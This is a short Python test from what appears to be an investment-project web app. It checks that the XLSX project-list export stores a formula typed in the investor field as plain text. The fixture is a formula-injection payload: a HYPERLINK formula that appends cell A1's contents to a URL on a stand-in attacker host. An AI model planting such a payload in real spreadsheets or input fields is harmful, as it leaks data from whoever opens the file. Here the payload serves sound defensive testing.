"""The project list export keeps an investor typed as a formula as text (issue 12 item 8)."""

import io

from openpyxl import load_workbook

from tests.investment.factories import make_project

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_a_project_investor_typed_as_a_formula_is_text_in_the_list_export(login, admin_user, zone, units):
    make_project(admin_user, zone, units["invest"], "整车项目",
                 investor=FORMULA)
    response = login(admin_user).get("/investment/projects/?export=xlsx")
    ws = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=header.index("投资方") + 1)
    assert (cell.value, cell.data_type) == (FORMULA, "s")
